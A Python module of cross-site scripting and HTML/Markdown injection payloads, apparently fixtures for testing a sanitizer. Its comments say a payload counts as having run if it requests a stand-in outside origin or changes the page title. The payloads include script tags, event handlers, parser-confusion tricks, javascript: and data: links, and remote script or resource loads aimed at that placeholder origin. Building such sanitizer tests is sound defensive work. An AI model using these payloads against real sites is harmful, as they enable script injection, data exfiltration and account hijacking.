"""Text of strangers that tries to run scripts, to send requests, or to leave the page.

``{O}`` stands for the origin of another server, which counts what reaches it. A payload that runs
requests ``{O}/ran`` or sets the title to ``ran``.
"""

from __future__ import annotations

_RUN = "document.title='ran';new Image().src='{O}/ran'"

HTML = {
    "script": f"<script>{_RUN}</script>",
    "script-src": "<script src={O}/s.js></script>",
    "script-case": f"<ScRiPt>{_RUN}</sCrIpT>",
    "script-split": f"<scr<script>ipt>{_RUN}</script>",
    "script-module": "<script type=module>import '{O}/m.js'</script>",
    "img-onerror": f'<img src=x onerror="{_RUN}">',
    "img-src": "<img src={O}/img>",
    "img-srcset": "<img srcset='{O}/srcset 1x'>",
    "img-dangling": "<img src='{O}/dangling?",
    "picture": "<picture><source srcset={O}/source><img src={O}/img2></picture>",
    "svg-onload": f'<svg onload="{_RUN}">',
    "svg-script": f"<svg><script>{_RUN}</script></svg>",
    "svg-animate": f'<svg><animate onbegin="{_RUN}" attributeName=x dur=1s>',
    "svg-use": "<svg><use href='{O}/use.svg#a'></svg>",
    "svg-image": "<svg><image href='{O}/image'></svg>",
    "svg-foreign": f'<svg><foreignObject><img src=x onerror="{_RUN}"></foreignObject></svg>',
    "math": f'<math><mtext></form><form><mglyph><style></math><img src onerror="{_RUN}">',
    "noscript": f'<noscript><p title="</noscript><img src=x onerror=&quot;{_RUN}&quot;>">',
    "noscript-2": f'<noscript><img src=x onerror="{_RUN}"></noscript>',
    "template": f"<template><script>{_RUN}</script></template>",
    "template-shadow": "<div><template shadowrootmode=open><img src={O}/shadow></template></div>",
    "textarea": f'<textarea></textarea><img src=x onerror="{_RUN}">',
    "title": f'</title><img src=x onerror="{_RUN}">',
    "comment": f'<!--><img src=x onerror="{_RUN}">-->',
    "comment-2": f'<!-- --!><img src=x onerror="{_RUN}">',
    "cdata": f'<![CDATA[><img src=x onerror="{_RUN}">]]>',
    "style-import": "<style>@import '{O}/import.css'</style>",
    "style-url": "<style>body{background:url({O}/url)}</style>",
    "style-font": "<style>@font-face{font-family:x;src:url({O}/font)}body{font-family:x}</style>",
    "style-attribute": "<p style='background:url({O}/attribute)'>x",
    "link-style": "<link rel=stylesheet href={O}/style.css>",
    "link-icon": "<link rel=icon href={O}/icon>",
    "link-prefetch": "<link rel=prefetch href={O}/prefetch>",
    "link-preload": "<link rel=preload as=image href={O}/preload>",
    "link-preconnect": "<link rel=preconnect href={O}>",
    "link-prerender": "<link rel=prerender href={O}/prerender>",
    "link-manifest": "<link rel=manifest href={O}/manifest>",
    "speculation": '<script type=speculationrules>{"prefetch":[{"urls":["{O}/rules"]}]}</script>',
    "meta-refresh": "<meta http-equiv=refresh content='0;url={O}/refresh'>",
    "meta-refresh-2": "<meta http-equiv=refresh content='0;url=javascript:void 0'>",
    "meta-cookie": "<meta http-equiv=set-cookie content='a=b'>",
    "base": "<base href={O}/><img src=base><a href=b>b</a>",
    "iframe": "<iframe src={O}/iframe></iframe>",
    "iframe-srcdoc": f'<iframe srcdoc="<script>{_RUN}</script><img src={{O}}/srcdoc>"></iframe>',
    "iframe-javascript": f'<iframe src="javascript:{_RUN}"></iframe>',
    "frameset": "<frameset><frame src={O}/frame></frameset>",
    "object": "<object data={O}/object></object>",
    "embed": "<embed src={O}/embed>",
    "applet": "<applet codebase={O} code=a.class></applet>",
    "video": "<video autoplay src={O}/video poster={O}/poster></video>",
    "audio": "<audio autoplay src={O}/audio></audio>",
    "track": "<video><track default src={O}/track></video>",
    "input-image": "<form action={O}/form><input type=image src={O}/input autofocus></form>",
    "autofocus": f'<input autofocus onfocus="{_RUN}">',
    "details": f'<details open ontoggle="{_RUN}">x</details>',
    "body-onload": f'<body onload="{_RUN}">',
    "body-background": "<body background={O}/background>",
    "table-background": "<table background={O}/table><tr><td background={O}/td>x</table>",
    "marquee": f'<marquee onstart="{_RUN}">x</marquee>',
    "anchor": f'<a href="javascript:{_RUN}" ping={{O}}/ping>click</a>',
    "anchor-tab": f'<a href="java&#9;script:{_RUN}">click</a>',
    "anchor-data": f'<a href="data:text/html,<script>{_RUN}</script>">click</a>',
    "anchor-outside": "<a href={O}/left ping={O}/ping target=_top>click</a>",
    "area": "<map name=m><area href={O}/area shape=default></map><img usemap=#m src=x alt=x>",
    "button": "<form id=f></form><button form=f formaction={O}/button autofocus>click</button>",
    "htmx": "<div hx-post={O}/hx hx-trigger=load>x</div>",
    "xml": "<?xml-stylesheet href='{O}/xml.css'?><x>",
    "nul": f"<scr\0ipt>{_RUN}</script>",
    "bidi": "\u202e<b>\u2066reversed",
    "attribute-escape": f'"><img src=x onerror="{_RUN}"><a title="',
}
MARKDOWN = {
    "link-javascript": "[click](javascript:{R})",
    "link-data": "[click](data:text/html,<script>{R}</script>)",
    "link-entity": "[click](java&#115;cript:{R})",
    "link-case": "[click](JaVaScRiPt:{R})",
    "link-control": "[click](\x01javascript:{R})",
    "link-vbscript": "[click](vbscript:{R})",
    "link-quote": '[click]({O}/x"onmouseover="{R})',
    "link-title": '[click]({O}/left "\\" onmouseover={R} x=\\"")',
    "link-reference": "[click][a]\n\n[a]: javascript:{R}",
    "autolink": "<javascript:{R}>",
    "autolink-2": "<{O}/autolink>",
    "image": "![alt]({O}/image)",
    "image-reference": "![alt][i]\n\n[i]: {O}/reference",
    "image-alt": '![x" onerror="{R}]({O}/alt)',
    "image-data": "![alt](data:image/svg+xml,<svg onload={R}>)",
    "image-in-link": "[![alt]({O}/inner)]({O}/left)",
    "fence": '```"><script>{R}</script>\n</code></pre><script>{R}</script>\n```',
    "table": "|a|b|\n|:-|-:|\n|<script>{R}</script>|[x](javascript:{R})|",
    "heading": "# <img src=x onerror={R}>",
    "template": "{{7*7}} {% raw %}",
}


def payloads(origin: str) -> dict[str, str]:
    """Return all payloads by name, with *origin* as the other server."""
    run = f"document.title='ran';new Image().src='{origin}/ran'"
    both = {f"html-{name}": text for name, text in HTML.items()}
    both |= {f"markdown-{name}": text for name, text in MARKDOWN.items()}
    return {name: text.replace("{R}", run).replace("{O}", origin) for name, text in both.items()}
